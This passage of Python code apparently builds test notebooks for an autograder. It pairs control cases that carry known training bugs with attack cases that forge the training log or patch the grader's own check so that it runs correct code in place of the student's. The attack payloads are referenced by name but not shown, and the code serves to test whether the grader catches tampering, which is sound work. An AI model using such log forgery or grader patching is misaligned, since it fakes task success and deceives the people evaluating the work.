        nb = A4.with_bugs("train: a sigmoid before BCEWithLogitsLoss")
        return insert_cell(nb, "train", good + "\n\n" + A4_PATCH_TRAINING) if patched else nb
    return make


def _blank_with(other: Other, after: str, source: str) -> Callable[[], NotebookNode]:
    return lambda: insert_cell(nbformat.read(other.blank, as_version=4), after, source)


#: assignment id -> its cases; each attack is graded beside the same notebook without the attack.
OTHER_CASES: dict[str, list[Case]] = {
    A3.assignment: [
        nb_case("a3_forge_log_hook", ATTACK, "The blank 03 notebook plus the torch.save hook that forges the log.",
                _blank_with(A3, "fit", FORGE_LOG_HOOK)),
        nb_case("a3_zero_grad", CTRL, "03's solution whose train_one_epoch forgets zero_grad (the demo bug).",
                _a3_zero_grad(False)),
        nb_case("a3_zero_grad_patched", ATTACK, "The same, plus a cell that patches the grader's own probe to run a "
                "correct epoch instead of the notebook's.", _a3_zero_grad(True)),
    ],
    A4.assignment: [
        nb_case("a4_forge_log_thread", ATTACK, "The blank 04 notebook plus the thread that rewrites the log.",
                _blank_with(A4, "train", FORGE_LOG_THREAD)),
        nb_case("a4_bad_train", CTRL, "04's solution with the demo's train bug (sigmoid before a logits loss).",
                _a4_bad_train(False)),
        nb_case("a4_bad_train_patched", ATTACK, "The same, plus a cell that makes the grader's check_training train "
                "a correct copy of train instead of the notebook's.", _a4_bad_train(True)),
    ],
}


def build_other(assignment: str, folder: Path) -> dict[str, Path]:
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    return {c.name: c.build(folder) for c in OTHER_CASES[assignment]}
